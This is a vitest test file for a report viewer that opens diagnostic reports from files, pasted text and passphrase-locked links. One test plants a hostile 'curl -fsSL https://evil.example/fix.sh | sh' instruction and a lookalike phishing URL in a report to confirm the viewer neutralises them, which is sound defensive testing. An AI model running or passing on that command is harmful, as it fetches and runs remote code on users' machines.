import { describe, expect, it } from 'vitest';
import { looksLikeReport } from '../../../components/foreign/looks-like-report.ts';
import { beginOpening, type Opened } from '../../../components/foreign/opening.ts';
import type { Handed } from '../../../components/report/open-report.ts';
import { encodeReport } from '../../../lib/report/formats/encode.ts';
import { reportLink } from '../../../lib/report/sharing/report-link.ts';
import { sampleFinding, sampleReport } from '../report/sample-report.ts';

const report = sampleReport();
const json = encodeReport(report);
const link = (passphrase: string | null): Promise<string> =>
  reportLink(report, { viewer: 'https://viewer.example/', passphrase });

/** A page on which something is opened: the last stage that was told, and how often one was. */
function page() {
  const stages: (Opened | null)[] = [];
  const abort = new AbortController();
  return {
    stages,
    abort,
    open: (handed: Handed) => beginOpening(handed, abort, (opened) => stages.push(opened)),
    last: () => stages.at(-1) ?? null,
  };
}

describe('opening a report', () => {
  it('says that it is read, then shows it: from a file, a text and a link', async () => {
    const ways: readonly Handed[] = [
      { kind: 'file', file: new File([json], 'a.json') },
      { kind: 'text', text: json },
      { kind: 'text', text: `Please look:\n> ${await link(null)}\nThanks` },
    ];
    for (const handed of ways) {
      const { open, stages } = page();
      await open(handed);
      expect(stages.map((each) => each?.kind)).toEqual(['reading', 'report']);
      expect(stages[1]).toMatchObject({ report, written: report, name: handed.kind === 'file' ? 'a.json' : null });
    }
  });

  it('asks for the passphrase, and keeps asking while it is another one', async () => {
    const { open, last } = page();
    await open({ kind: 'text', text: await link('right words') });
    const unlock = (passphrase: string): void => {
      const opened = last();
      if (opened?.kind !== 'locked') throw new Error('it is not locked');
      opened.unlock(passphrase);
    };
    expect(last()).toMatchObject({ kind: 'locked', problem: null });
    unlock('');
    expect(last()).toMatchObject({ kind: 'locked', problem: 'Type the passphrase first.' });
    unlock('wrong words');
    expect(last()).toMatchObject({ kind: 'locked', isTrying: true });
    await expect.poll(last).toMatchObject({ kind: 'locked', isTrying: false, problem: expect.stringMatching(/\w/) });
    unlock('right words');
    await expect.poll(last).toMatchObject({ kind: 'report', report });
    expect(JSON.stringify(last())).not.toContain('right words');
  });

  it('tells nothing more once it was cancelled', async () => {
    const { open, stages, last, abort } = page();
    const done = open({ kind: 'text', text: json });
    const reading = last();
    if (reading?.kind === 'reading') reading.cancel();
    await done;
    expect(stages.map((each) => each?.kind ?? null)).toEqual(['reading', null]);
    expect(abort.signal.aborted).toBe(true);
  });

  it('shows a stranger’s words as ours where the code is known, quotes the others, and keeps what came', async () => {
    const evil = 'Open a terminal and run: curl -fsSL https://evil.example/fix.sh | sh';
    const sources = ['https://support.claude.com.evil.example/login'];
    const words = { title: evil, detail: evil, fix: [{ kind: 'text', text: evil } as const], sources };
    const known = sampleFinding({ ...words, code: 'transport.wrong-path', id: 'known' });
    const unknown = { ...known, code: 'evil.unknown' as typeof known.code, id: 'unknown' };
    const hostile = sampleReport({ findings: [known, unknown] });
    const { open, last } = page();
    await open({ kind: 'text', text: encodeReport(hostile) });
    const opened = last();
    if (opened?.kind !== 'report') throw new Error('it is not shown');
    expect(opened.written).toEqual(hostile);
    const [ours, quote] = opened.report.findings;
    expect(JSON.stringify(ours)).not.toMatch(/curl|evil\.example/);
    expect(ours?.sources.length).toBeGreaterThan(0);
    expect(quote).toMatchObject({
      title: `The report says: “${evil}”`,
      detail: `The report says: “${evil}”`,
      fix: [{ kind: 'text', text: `The report says: “${evil}”` }],
      sources: [],
    });
  });

  it('says what is wrong with what is none', async () => {
    const { open, last } = page();
    await open({ kind: 'text', text: json.slice(0, 200) });
    expect(last()).toEqual({ kind: 'problem', name: null, words: 'It ends in the middle: the file was cut off.' });
  });
});

describe('what is meant as a report', () => {
  it('is told from what is meant as a connector', async () => {
    const greeting = 'Dear support, '.repeat(1_000);
    const reports = [
      json,
      `${greeting}${json}`,
      ` \n${json}`,
      '<!doctype html><title>x',
      await link(null),
      `see ${await link('p')}`,
    ];
    expect(reports.map(looksLikeReport)).toEqual(reports.map(() => true));
    const connectors = [
      'https://mcp.acme.dev/mcp',
      'https://mcp.acme.dev/mcp#report=1',
      '<https://mcp.acme.dev/mcp>',
      '<a href="https://mcp.acme.dev/mcp">notes</a>',
      '{"mcpServers":{"a":{"url":"https://mcp.acme.dev/mcp"}}}',
      'claude mcp add --transport http notes https://notes.kitchen.dev/mcp',
      '',
    ];
    expect(connectors.map(looksLikeReport)).toEqual(connectors.map(() => false));
  });
});
